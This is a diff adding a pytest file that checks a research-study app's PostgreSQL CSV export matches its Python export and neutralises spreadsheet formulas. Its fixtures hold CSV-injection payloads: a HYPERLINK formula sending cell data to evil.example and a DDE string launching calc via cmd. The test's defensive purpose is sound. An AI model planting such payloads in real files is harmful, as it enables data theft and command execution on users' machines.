@@ -1,0 +1,197 @@
+"""The CSV export written by PostgreSQL (evaluation/exporters/csv_copy.py) is byte for byte the CSV
+the Python path writes (answer_rows → csv_chunks), on a study with every kind of answer, text a
+spreadsheet would run as a formula, text that needs quoting, unicode and empty answers."""
+
+from __future__ import annotations
+
+import csv
+import io
+import random
+
+import pytest
+from django.contrib.auth import get_user_model
+from django.core.management import call_command
+from django.db import connection
+
+from annotation import services
+from annotation.models import (
+    AttentionCheck,
+    AttentionCheckResponse,
+    LayItem,
+    LayPreference,
+    Participant,
+    SimplificationText,
+    Source,
+    System,
+)
+from evaluation.exporters import csv_copy
+from evaluation.exporters.answers import AnswerExport
+from evaluation.exporters.csv import csv_chunks
+from evaluation.exporters.rows import answer_columns, answer_rows
+from tests.evaluation.test_selectors import build_answered_study
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
+AWKWARD = 'two lines,\n"quoted" and\r\nCRLF\tand a tab: é 中文 🚀'
+
+
+@pytest.fixture
+def study(db):
+    study = build_answered_study(slug="copied", n_sources=3, n_lay=2, external_ids=True)
+    sources = list(Source.objects.filter(study=study).order_by("position"))
+    Source.objects.filter(pk=sources[0].pk).update(key="=2+5")
+    Source.objects.filter(pk=sources[1].pk).update(key='key, "quoted"')
+    System.objects.filter(study=study, key="plain_sc").update(key="-sys")
+    lay = list(Participant.objects.filter(study=study, role=Participant.Role.LAYPERSON).order_by("pk"))
+    Participant.objects.filter(pk=lay[0].pk).update(pseudonym="", external_id="=cmd|' /C calc'!A0")
+    Participant.objects.filter(pk=lay[1].pk).update(pseudonym="@L2", external_id="PROLIFIC é")
+
+    # Panel 3 with free text of every awkward kind.
+    items = list(LayItem.objects.filter(participant__study=study).order_by("participant_id", "position"))
+    justifications = [
+        (HYPERLINK, AWKWARD),
+        ("\tstarts with a tab", ""),
+        ("", "\rstarts with CR"),
+        ("+1", "-1"),
+    ]
+    for item, (most, least) in zip(items, justifications, strict=False):
+        services.lay_preference_save(item=item, most_justification="x", least_justification="x")
+        # Written directly: the service strips the leading tab and CR that this test needs.
+        LayPreference.objects.filter(item=item).update(most_justification=most, least_justification=least)
+
+    # A layperson who answered only some questions, on an item with no assigned system.
+    person = services.participant_create(study=study, role=Participant.Role.LAYPERSON, external_id="X1")
+    text = SimplificationText.objects.filter(source=sources[2]).order_by("pk").first()
+    item = services.lay_item_create(
+        participant=person, source=sources[2], position=0, shown_text=text, assigned_system=None
+    )
+    services.lay_answer_save(item=item, phase="original", answers={"understanding": "Completely"})
+    services.lay_answer_save(item=item, phase="assisted", answers={"helpfulness": "It further confused me"})
+
+    # A radiologist with a partial rating, a judgement without severity and formula-like comments.
+    radiologist = services.participant_create(study=study, role=Participant.Role.RADIOLOGIST)
+    services.expert_item_create(participant=radiologist, source=sources[1], position=0)
+    services.expert_rating_save(
+        participant=radiologist, shown_text=text, scores={"correctness": 3}, comment="@SUM(1,2)"
+    )
+    services.expert_source_judgement_save(
+        participant=radiologist, source=sources[1], simplicity=2, comment=AWKWARD
+    )
+
+    check = AttentionCheck.objects.create(
+        study=study, position=1, prompt="Pick blue.", options=["Blue", "Red"], expected_answer="Blue"
+    )
+    AttentionCheckResponse.objects.create(participant=lay[0], check_item=check, answer="Blue", passed=True)
+    AttentionCheckResponse.objects.create(participant=lay[1], check_item=check, answer="=Red", passed=False)
+    AttentionCheckResponse.objects.create(participant=person, check_item=check, answer="", passed=False)
+    return study
+
+
+def _python_csv(study, include_external_ids: bool) -> bytes:
+    rows = answer_rows(study=study, include_external_ids=include_external_ids)
+    return b"".join(csv_chunks(rows, answer_columns(include_external_ids=include_external_ids)))
+
+
+def test_the_database_writes_the_csv_on_postgresql():
+    assert connection.vendor == "postgresql"
+    assert csv_copy.available()
+
+
+@pytest.mark.parametrize("include_external_ids", [False, True])
+def test_copy_writes_the_same_bytes_as_python(study, include_external_ids):
+    expected = _python_csv(study, include_external_ids)
+    counted = []
+    written = b"".join(
+        csv_copy.csv_copy_chunks(
+            study=study, include_external_ids=include_external_ids, on_rows=counted.append
+        )
+    )
+    assert written == expected
+    rows = list(csv.reader(io.StringIO(expected.decode("utf-8"), newline="")))
+    assert sum(counted) == len(rows) - 1
+    # The study really holds what the test is about.
+    values = {row[answer_columns(include_external_ids=include_external_ids).index("value")] for row in rows}
+    assert {
+        "'" + HYPERLINK,
+        AWKWARD,
+        "'\tstarts with a tab",
+        "'\rstarts with CR",
+        "'@SUM(1,2)",
+        "'=Red",
+    } <= values
+    questions = {row[8 + include_external_ids] for row in rows[1:]}
+    assert questions >= {
+        "understanding",
+        "helpfulness",
+        "most_preferred",
+        "least_preferred",
+        "most_justification",
+        "least_justification",
+        "correctness",
+        "comment",
+        "severity",
+        "original_simplicity",
+        "attention_check_1",
+    }
+
+
+def test_the_command_and_the_download_use_the_database_and_count_rows(study, tmp_path, client):
+    expected = _python_csv(study, False)
+    out = tmp_path / "answers.csv"
+    stderr = io.StringIO()
+    call_command("export", "--study", study.slug, "--format", "csv", "--out", str(out), stderr=stderr)
+    assert out.read_bytes() == expected
+    n = len(list(csv.reader(io.StringIO(expected.decode("utf-8"), newline="")))) - 1
+    assert f"Wrote {n} answers" in stderr.getvalue()
+
+    researcher = get_user_model().objects.create_user("copy-researcher", password="pw")
+    study.researchers.add(researcher)
+    client.force_login(researcher)
+    response = client.get(f"/dashboard/{study.slug}/export.csv")
+    assert response.status_code == 200
+    assert b"".join(response.streaming_content) == expected
+
+
+def test_an_abandoned_download_leaves_the_connection_usable(study, monkeypatch):
+    monkeypatch.setattr(csv_copy, "ROWS_PER_CHUNK", 3)
+    participants = Participant.objects.filter(study=study).count()
+    chunks = iter(AnswerExport(study=study, file_format="csv"))
+    next(chunks)  # header
+    next(chunks)  # first rows: the COPY is under way
+    chunks.close()
+    assert Participant.objects.filter(study=study).count() == participants
+
+
+def test_the_python_path_where_the_database_cannot(study, tmp_path, monkeypatch):
+    expected = _python_csv(study, False)
+    monkeypatch.setattr(csv_copy, "available", lambda: False)
+    export = AnswerExport(study=study, file_format="csv")
+    assert not export.by_database
+    buffer = io.BytesIO()
+    export.write(buffer)
+    assert buffer.getvalue() == expected
+    assert export.rows == len(list(csv.reader(io.StringIO(expected.decode("utf-8"), newline="")))) - 1
+
+
+@pytest.mark.parametrize("seed", range(5))
+def test_line_ends_become_crlf_outside_quoted_fields_however_the_output_is_cut(seed):
+    """COPY's LF row ends become CRLF; LF and CR inside quoted fields stay as they are, wherever
+    the chunks are cut (inside a field, between two doubled quotes)."""
+    rows = [
+        ["a", 'b "c"\nd', "", "e,f"],
+        ['"', "\r", "x\r\ny", "plain"],
+        ["", "", "", ""],
+        ['""\n""', "z", "\n", "end"],
+    ]
+    crlf = io.StringIO(newline="")
+    writer = csv.writer(crlf, lineterminator="\r\n")
+    lines = []
+    for row in rows:
+        start = crlf.tell()
+        writer.writerow(row)
+        lines.append(crlf.getvalue()[start:-2] + "\n")  # as COPY ends a row
+    data = "".join(lines).encode()
+    cuts = sorted(random.Random(seed).sample(range(1, len(data)), 6))
+    line_ends = csv_copy._LineEnds()
+    pieces = [data[a:b] for a, b in zip([0, *cuts], [*cuts, len(data)], strict=True)]
+    assert b"".join(line_ends.convert(piece) for piece in pieces) == crlf.getvalue().encode()
+    assert line_ends.take_rows() == len(rows)
